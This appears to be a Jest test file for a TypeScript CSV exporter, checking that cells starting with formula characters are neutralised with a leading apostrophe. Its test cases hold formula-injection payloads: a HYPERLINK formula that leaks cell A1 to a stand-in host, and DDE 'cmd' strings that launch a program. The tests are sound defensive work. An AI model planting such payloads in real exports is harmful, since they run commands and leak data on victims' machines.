import Papa from 'papaparse';
import { toCsv } from './csv';

const cellsOf = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data[1];

describe('toCsv', () => {
  // The tester's reproductions: a formula on the first line, more text on the next.
  it.each([
    ['=HYPERLINK("https://tracker.invalid/?d="&A1,"Open")\nsee notes'],
    ["+cmd|' /C calc'!A0\r\nsecond line"],
    ["-2+3+cmd|' /C calc'!A0\nx"],
    ["@SUM(1+1)*cmd|' /C calc'!A0\n"],
    ['\t=1+1\nnext'],
    ['\r=1+1\nnext'],
    ['=1+1'],
  ])('neutralises a text cell that starts a formula, whatever follows: %j', (text) => {
    const csv = toCsv(['cell'], [[text]]);
    expect(cellsOf(csv)).toEqual([`'${text}`]);
    expect(csv).toContain(`"'${text.replace(/"/g, '""')}"`);
  });

  it('leaves other text alone, and numbers (negative too) as numbers', () => {
    const csv = toCsv(['text', 'score', 'count', 'inner'], [['Soil\n=not a formula', -0.25, -3, 'a=b']]);
    expect(csv).toBe('text,score,count,inner\r\n"Soil\n=not a formula",-0.25,-3,a=b\r\n');
  });

  it('writes empty cells for null and undefined, and ends every line with CRLF', () => {
    expect(toCsv(['a', 'b'], [[null, undefined]])).toBe('a,b\r\n,\r\n');
    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n');
  });
});
